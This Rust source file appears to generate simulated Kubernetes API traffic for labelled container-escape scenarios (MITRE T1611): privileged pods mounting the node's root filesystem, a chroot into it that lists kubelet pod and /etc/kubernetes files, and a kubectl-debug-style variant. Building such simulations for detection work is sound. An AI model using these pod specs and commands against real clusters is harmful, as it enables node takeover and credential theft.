//! A privileged pod opens a node.
//!
//! **Plain**: in the sandbox, which enforces nothing, with the node's root mounted; used and deleted. **Slow**:
//! the same steps, one an hour. **Living off the land**: what `kubectl debug node` makes.

use serde_json::{Value, json};

use crate::call::Call;
use crate::cast::{Actor, person};
use crate::clock::Moment;
use crate::dice::Dice;
use crate::kubectl;
use crate::timetable::{Pace, Timetable, attack};

/// The three variants, on different days.
pub fn plan(table: &mut Timetable, dice: &mut Dice) {
    let outside = format!("203.0.113.{}", dice.between(10, 250));
    let omar = person("omar").from(&outside);
    let at = Moment::at(2, 1, dice.between(0, 60));
    let calls = opened(&omar, "net-check", "node-2");
    table.add_marked(
        at,
        Pace::AtOnce,
        &attack("privileged-pod", "plain", "T1611"),
        calls,
    );

    let chloe = person("chloe").from(&outside);
    let at = Moment::at(3, 18, dice.between(10, 60));
    let calls = opened(&chloe, "cache-warmer", "node-4");
    table.add_marked(
        at,
        Pace::Hourly,
        &attack("privileged-pod", "slow", "T1611"),
        calls,
    );

    let tomas = person("tomas");
    let name = "node-debugger-node-3-x7k2p";
    let mut calls = vec![
        tomas.get("/api/v1/nodes/node-3"),
        tomas.post(
            "/api/v1/namespaces/default/pods?fieldManager=kubectl-debug",
            json!({"apiVersion": "v1", "kind": "Pod",
                "metadata": {"name": name, "namespace": "default",
                             "labels": {"app.kubernetes.io/managed-by": "kubectl-debug"}},
                "spec": {"nodeName": "node-3", "hostPID": true, "hostIPC": true, "hostNetwork": true,
                    "restartPolicy": "Never", "tolerations": [{"operator": "Exists"}],
                    "containers": [{"name": "debugger", "image": "busybox:1.37", "stdin": true, "tty": true,
                        "volumeMounts": [{"name": "host-root", "mountPath": "/host"}]}],
                    "volumes": [{"name": "host-root", "hostPath": {"path": "/"}}]}}),
        ),
    ];
    calls.push(tomas.stream(format!(
        "/api/v1/namespaces/default/pods/{{ready:default/{name}}}/attach?container=debugger&stdin=true&stdout=true&tty=true"
    )).expecting(crate::call::Expect::Anything));
    let at = Moment::at(4, 19, dice.between(0, 60));
    let mark = attack("privileged-pod", "living-off-the-land", "T1611");
    table.add_marked(at, Pace::AtOnce, &mark, calls);
}

fn opened(thief: &Actor, name: &str, node: &str) -> Vec<Call> {
    let pods = "/api/v1/namespaces/dev-sandbox/pods";
    let look = [
        "chroot",
        "/host",
        "sh",
        "-c",
        "ls /var/lib/kubelet/pods /etc/kubernetes",
    ];
    vec![
        thief.post(pods, pod(name, node)),
        kubectl::run(
            thief,
            "dev-sandbox",
            &format!("{{ready:dev-sandbox/{name}}}"),
            &look,
        ),
        thief.delete(format!("{pods}/{name}?gracePeriodSeconds=0")),
    ]
}

fn pod(name: &str, node: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": name, "namespace": "dev-sandbox", "labels": {"app.kubernetes.io/name": name}},
        "spec": {"nodeName": node, "hostPID": true, "hostNetwork": true,
            "containers": [{"name": name, "image": "registry.shop.example/platform/toolbox:1.4.0",
                "command": ["sleep", "infinity"], "securityContext": {"privileged": true},
                "resources": {"requests": {"cpu": "50m", "memory": "32Mi"}, "limits": {"memory": "64Mi"}},
                "volumeMounts": [{"name": "node", "mountPath": "/host"}]}],
            "volumes": [{"name": "node", "hostPath": {"path": "/"}}]}})
}
